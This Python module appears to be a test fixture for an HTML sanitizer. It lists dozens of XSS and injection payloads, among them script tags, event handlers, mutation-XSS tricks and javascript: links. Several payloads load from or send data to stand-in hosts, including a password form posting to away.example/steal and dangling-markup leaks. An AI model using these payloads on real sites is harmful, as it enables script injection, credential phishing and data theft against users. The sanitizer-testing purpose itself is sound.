"""What hostile publishers write: markup that would run, load, cover, lead away or speak to others, were it let through.

`RUN` counts in `window.canary`, and `AWAY` is a host that nobody may be sent to.
"""

from __future__ import annotations

RUN = "window.canary=(window.canary||0)+1"
AWAY = "//away.example"

_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src={AWAY}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<<script>{RUN};//<</script>",
    f"<script>{RUN}",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x00>{RUN}</script>",
    f"<script/><!--\n{RUN}\n--></script>",
]
_EVENTS = [
    f"<img src=x onerror='{RUN}'>",
    f"<img src=x oNeRrOr={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x `onerror={RUN}`>",
    f'<img alt="x" title="a>b" src=x onerror="{RUN}">',
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}><body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>more</summary>text</details>",
    f"<video onloadstart={RUN} src=x autoplay><source onerror={RUN} src=x></video>",
    f"<audio src=x onerror={RUN} controls></audio>",
    f"<marquee onstart={RUN}>round and round</marquee>",
    f"<p onanimationstart={RUN} style=animation:x>moving</p>",
    f"<a onmouseover={RUN} onpointerrawupdate={RUN} href=/>here</a>",
    f"<div popover id=pop onbeforetoggle={RUN}>pop</div><button popovertarget=pop>open</button>",
    f"<xss onscrollsnapchange={RUN} contenteditable onfocus={RUN} autofocus tabindex=1>own element</xss>",
    f"<p hx-on:load={RUN} hx-get={AWAY}/hx hx-trigger=load data-bind='{RUN}'>for libraries</p>",
]
_MUTATIONS = [
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<template><p title="</template><img src=x onerror={RUN}>"></template>',
    f"<svg><foreignObject><p><style><!--</style><img src=x onerror={RUN}>--></foreignObject></svg>",
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={RUN}></style></annotation-xml></math>',
    f"<svg><title><style><!--</style><img src=x onerror={RUN}>--></title></svg>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<plaintext><img src=x onerror={RUN}>",
    f"<textarea></textarea><img src=x onerror={RUN}><title></title><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>--><!--!><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]><?xml <img src=x onerror={RUN}>?>",
    f'<table><td><a title="</table><img src=x onerror={RUN}>">x</a>',
    f'<iframe><p title="</iframe><img src=x onerror={RUN}>"></iframe><noembed><img title="</noembed><img src=x onerror={RUN}>">',
    f"&lt;img src=x onerror={RUN}&gt; &amp;lt;img src=x onerror={RUN}&amp;gt;",
    f'<p title="&quot;><img src=x onerror={RUN}>">quoted</p><p title=\'&#39;><img src=x onerror={RUN}>\'>twice</p>',
    f'<a title="\x0c\x1f"onclick="{RUN}" href="/">form feed</a><p/title="x"/onclick="{RUN}">slash</p>',
]  # fmt: skip
_ADDRESSES = [
    f"<a href='javascript:{RUN}'>a</a><a href=' JaVaScRiPt:{RUN}'>b</a><a href='java\tscript:{RUN}'>c</a>",
    f"<a href='java&#10;script:{RUN}'>a</a><a href='&#1;javascript:{RUN}'>b</a><a href='javascript&colon;{RUN}'>c</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>a</a><a href='vbscript:x'>b</a><a href='feed:javascript:{RUN}'>c</a>",
    f"<a href='javascript://away.example/%0A{RUN}'>a</a><a href='blob:https://away.example/x'>b</a><a href='view-source:x'>c</a>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>a</text></a><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math href='javascript:{RUN}'><mi xlink:href='javascript:{RUN}'>a</mi></math>",
    f"<iframe src='javascript:parent.{RUN}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object><embed src='data:text/html,<script>parent.{RUN}</script>'>",
    f"<form action='javascript:{RUN}'><button formaction='javascript:{RUN}'>go</button><input type=image src=x></form>",
    f"<video poster='javascript:{RUN}' src=/v.mp4></video><img src='javascript:{RUN}' srcset='{AWAY}/s.png 1x'>",
    f"<blockquote cite='javascript:{RUN}'>q</blockquote><q cite='data:text/html,x'>q</q><a href=mailto:a@b.example?body=x>m</a>",
    "<a href='\\\\away.example\\x'>a</a><a href='/\\away.example'>b</a><a href='https:away.example'>c</a>",
]  # fmt: skip
_LOADS = [
    f"<link rel=stylesheet href={AWAY}/x.css><style>@import '{AWAY}/y.css';</style>",
    f"<style>body{{background:url({AWAY}/b.png)}}*{{display:none}}</style>",
    f"<p style='background:url({AWAY}/c.png);position:fixed;inset:0'>over all</p><div class=skip id=main>names</div>",
    f"<link rel=prefetch href={AWAY}/p><link rel=preconnect href={AWAY}><link rel=dns-prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/refresh'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=set-cookie content=a=b>',
    f"<base href={AWAY}/><a href=relative>relative</a><base target=_top>",
    f"<img src={AWAY}/1.gif width=1 height=1><img src={AWAY}/big.png><picture><source srcset={AWAY}/s.webp><img src=x></picture>",
    f"<table background={AWAY}/t.png><td background={AWAY}/u.png>cell</table><body background={AWAY}/v.png>",
    f"<form action={AWAY}/steal method=post><input name=password value=x autofocus><button>Sign in</button></form>",
    f"<a ping={AWAY}/ping href=https://evil.example/ target=_blank download>ping</a>",
    f"<frameset><frame src={AWAY}/f></frameset><portal src={AWAY}/o></portal><applet code=x></applet>",
    f"<img src='{AWAY}/dangling?<p>what follows would be sent along",
    f"<a href='{AWAY}/dangling?<p>as would this",
    f"<button formaction={AWAY}/f form=search>b</button><input form=search name=q value=x><label for=q>l</label>",
    f"<svg><image href={AWAY}/i.svg /><feImage href={AWAY}/j.svg /></svg><input type=image src={AWAY}/k.png>",
    f"<p lang='x\" onclick={RUN}' dir='\"><script>{RUN}</script>'>attributes that stay</p><time datetime='\"><script>{RUN}</script>'>t</time>",
    f"<li value='1\"><script>{RUN}</script>'>n</li><td colspan='2\"onclick={RUN}'>c</td><img alt='\"><script>{RUN}</script>' src=x>",
    "\u202e<b>right to left</b>\u202d\x00\x0b\ufffe &#xD800; &#0; &#x80;",
]  # fmt: skip

PAYLOADS = [*_SCRIPTS, *_EVENTS, *_MUTATIONS, *_ADDRESSES, *_LOADS]
